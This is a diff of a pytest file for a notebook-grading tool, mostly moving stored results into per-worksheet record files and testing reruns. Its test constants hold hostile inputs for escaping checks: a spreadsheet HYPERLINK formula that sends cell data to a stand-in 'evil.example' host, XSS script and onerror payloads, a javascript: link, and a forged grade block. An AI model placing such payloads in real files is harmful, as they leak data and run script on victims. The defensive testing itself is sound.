@@ -17,7 +17,7 @@ import hostile_worksheet as H
 import nbformat
 import pytest
 
-from coursegrad.grading import batch, lifetime, report, worker
+from coursegrad.grading import batch, lifetime, records, report, worker
 from coursegrad.grading.escape import csv_cell, file_name, md_block, md_inline
 from coursegrad.grading.grade import grade_notebook
 from coursegrad.grading.reference import prepare
@@ -25,6 +25,7 @@ from coursegrad.grading.reference import prepare
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 FORGERY = "``````\n# Full marks: 3 / 3\n<script>alert(1)</script>\n<img src=x onerror=alert(2)>"
 EVIL_FOLDER = "=1+1 <b>x<b> # heading ``` [link](javascript:alert(1))"
+STEM = H.NAME.removesuffix(".ipynb")  # the worksheet's folder of records
 
 
 @pytest.fixture(scope="module")
@@ -53,7 +54,7 @@ def graded(tmp_path_factory):
     (subs / "folder_link").symlink_to(subs / "bob smith")
     (subs / "fifo").mkdir()
     os.mkfifo(subs / "fifo" / H.NAME)
-    results = batch.grade_folder(src, subs, jobs=2, progress=False, timeout=10, results_dir=tmp / "out" / "results")
+    results = batch.grade_folder(src, subs, jobs=2, progress=False, timeout=10, out=tmp / "out")
     out = report.write_all(results, tmp / "out", H.NAME)
     with open(out / "gradebook.csv", newline="", encoding="utf-8") as f:
         raw_rows = list(csv.reader(f))
@@ -138,8 +139,8 @@ def test_names_that_sanitise_alike_get_their_own_files(graded):
     for name in names:
         feedback = (graded["out"] / "feedback" / f"{file_name(name)}.md").read_text()
         assert md_inline(name) in feedback.splitlines()[0]
-        stored = json.loads((graded["out"] / "results" / f"{file_name(name)}.json").read_text())
-        assert stored["result"]["student"] == name
+        stored = json.loads(records.path_of(graded["out"], STEM, name).read_text())
+        assert stored["submission"]["student"] == name
 
 
 def test_links_and_special_files_are_refused(graded):
@@ -163,11 +164,12 @@ def test_hidden_folders_get_a_row_and_a_note(graded):
     assert checkpoints.status == "missing" and "hidden folder" in checkpoints.notes[0]
 
 
-def test_a_rerun_resumes_from_the_stored_results(graded, monkeypatch):
+def test_a_rerun_resumes_from_the_stored_records(graded, monkeypatch):
     out = graded["out"]
-    stored = sorted(p.name for p in (out / "results").iterdir())
-    graded_students = [s for s, r in graded["results"].items() if r.status == "graded"]
-    assert stored == sorted([batch.REFERENCE] + [f"{file_name(s)}.json" for s in graded_students])  # with the reference
+    folder = records.path_of(out, STEM, "anyone").parent
+    assert sorted(p.name for p in folder.iterdir()) == sorted(f"{file_name(s)}.json" for s in graded["results"])
+    assert records.reference_path(out, STEM).is_file() and records.reference_path(out, STEM).parent == folder.parent
+    assert len(records.load_all(out)) == len(graded["results"])  # the reference values are no student's record
     computed = []
 
     def computing(ws, **options):
@@ -175,21 +177,22 @@ def test_a_rerun_resumes_from_the_stored_results(graded, monkeypatch):
         raise AssertionError("the reference values stored with the results should have been used")
 
     monkeypatch.setattr(batch, "with_reference", computing)
-    (out / "results" / f"{file_name('bob_smith')}.json").unlink()  # lost, or deleted by someone
+    records.path_of(out, STEM, "bob_smith").unlink()  # lost, or deleted by someone
     nb = H.correct()
     nbformat.write(nb, str(graded["subs"] / "Bob_Smith" / H.NAME))  # changed since it was graded
     calls = []
     real = worker.grade_one
     monkeypatch.setattr(worker, "grade_one", lambda *a: calls.append(a[1]) or real(*a))
-    again = batch.grade_folder(graded["src"], graded["subs"], jobs=1, progress=False, timeout=10, results_dir=out / "results")
+    again = batch.grade_folder(graded["src"], graded["subs"], jobs=1, progress=False, timeout=10, out=out)
     assert sorted(calls) == ["Bob_Smith", "bob_smith"]
     by_name = {r.student: r for r in again}
     assert by_name["Bob_Smith"].total == 3.0 and by_name["bob smith"].total == 3.0
     assert by_name["injector"].questions == graded["results"]["injector"].questions
-    assert not list((out / "results").glob("*.tmp"))
+    assert records.load(records.path_of(out, STEM, "Bob_Smith")).submission.total == 3.0  # the new result is stored
+    assert not [p for p in folder.parent.rglob("*") if p.name.startswith(".tmp")]
     assert computed == []  # the reference values stored with the results were used, not computed again
     calls.clear()
-    unchanged = batch.grade_folder(graded["src"], graded["subs"], jobs=1, progress=False, timeout=10, results_dir=out / "results")
+    unchanged = batch.grade_folder(graded["src"], graded["subs"], jobs=1, progress=False, timeout=10, out=out)
     assert calls == [] and [r.total for r in unchanged] == [r.total for r in again]  # nothing changed: no kernel runs
 
 
